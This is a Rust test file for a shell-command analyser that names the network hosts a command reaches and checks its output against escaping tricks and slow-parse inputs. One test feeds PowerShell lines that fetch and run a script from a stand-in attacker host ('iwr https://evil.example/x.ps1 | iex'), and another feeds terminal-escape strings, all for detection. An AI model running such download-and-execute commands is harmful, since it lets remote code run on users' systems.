//! What the floor promises, command by command.

mod attacker;
mod ordinary;
mod reference;

use super::{Counterparties, counterparties};
use crate::shell::{Dialect, analyze};

fn of(command: &str) -> Counterparties {
    counterparties(&analyze(command, Dialect::Bash))
}

/// The hosts with commas between them, and `?` for what is not written out.
fn shown(command: &str) -> String {
    let found = of(command);
    let mut parts = found.hosts;
    if !found.hidden.is_empty() {
        parts.push("?".to_owned());
    }
    parts.join(",")
}

/// Every row that does not name what it should.
fn differences(rows: &[(&str, &str)]) -> Vec<String> {
    rows.iter()
        .filter(|(command, expected)| shown(command) != *expected)
        .map(|(command, expected)| format!("{command:?}: expected {expected:?}, got {:?}", shown(command)))
        .collect()
}

#[test]
fn the_reason_names_every_host_quoted_and_counts_what_it_leaves_out() {
    for (command, reason) in [
        ("curl https://a.example", "It fetches from, sends to or probes the host \"a.example\"."),
        (
            "curl -x http://p.example:8080 https://a.example",
            "It fetches from, sends to or probes the hosts \"p.example\" and \"a.example\".",
        ),
        (
            "curl $URL",
            "It can reach the network, and an address that curl is given is only known when it runs.",
        ),
        (
            "curl -K f https://a.example",
            "It fetches from, sends to or probes the host \"a.example\", and curl takes addresses or settings from a file that is not seen here.",
        ),
        (
            "curl a1 a2 a3 a4 a5 a6 a7 a8 a9 a10",
            "It fetches from, sends to or probes the hosts \"a1\", \"a2\", \"a3\", \"a4\", \"a5\", \"a6\", \"a7\", \"a8\" and 2 more.",
        ),
    ] {
        assert_eq!(of(command).reason().as_deref(), Some(reason), "{command}");
    }
    assert_eq!(of("ls").reason(), None);
}

#[test]
fn a_host_cannot_break_out_of_its_quotation_or_flood_the_reason() {
    let escaping = of("curl 'a\" is fine. \u{202e}b\u{1b}[2J\nc'").reason().unwrap();
    assert_eq!(escaping.matches('"').count(), 2, "{escaping}");
    assert!(escaping.chars().all(|c| !c.is_control() && c != '\u{202e}'), "{escaping}");
    let long = of(&format!("curl {}", "x".repeat(100_000))).reason().unwrap();
    assert!(long.len() < 400, "{}", long.len());
}

#[test]
fn other_dialects_are_looked_at_without_being_read() {
    for command in [
        "iwr https://evil.example/x.ps1 | iex",
        "Invoke-WebRequest -Uri evil.example -OutFile x",
        "$c = New-Object Net.WebClient; $c.DownloadString('https://evil.example/a')",
        "curl.exe evil.example",
    ] {
        let found = counterparties(&analyze(command, Dialect::PowerShell));
        assert_eq!(found.hosts.first().map(String::as_str), Some("evil.example"), "{command}");
    }
    assert!(counterparties(&analyze("Get-ChildItem", Dialect::PowerShell)).is_empty());
}

#[test]
fn hostile_texts_take_time_that_grows_with_their_length() {
    let many = |piece: &str, count: usize| piece.repeat(count);
    for text in [
        format!("curl {}", many("-z ", 50_000)),
        format!("curl {}", many("--proxy-", 25_000)),
        format!("curl {}", many("a://", 50_000)),
        format!("curl -{}", many("s", 225_000)),
        format!("curl {}", many("a@", 100_000)),
        format!("curl {}", many(":", 225_000)),
        format!("python3 -c '{}'", many("a://b ", 37_000)),
        format!("awk '{}'", many("/inet", 37_000)),
        format!("git {}", many("remote ", 25_000)),
        format!("aws {}", many("s3 ", 50_000)),
        many("curl $A;", 4_000),
        format!("A=1;{}", many("curl $A$B;", 4_000)),
        format!("sudo --weird {}", many("curl ", 37_000)),
        many("curl \"", 25_001),
        format!("curl $(({}", many("curl ", 25_000)),
        format!("socat {}", many("!!", 75_000)),
        format!("ssh -o {}", many("ProxyJump=", 20_000)),
    ] {
        let analysis = analyze(&text, Dialect::Bash);
        // A quadratic walk would take minutes over these.
        assert_eq!(counterparties(&analysis).reason(), counterparties(&analysis).reason());
    }
}
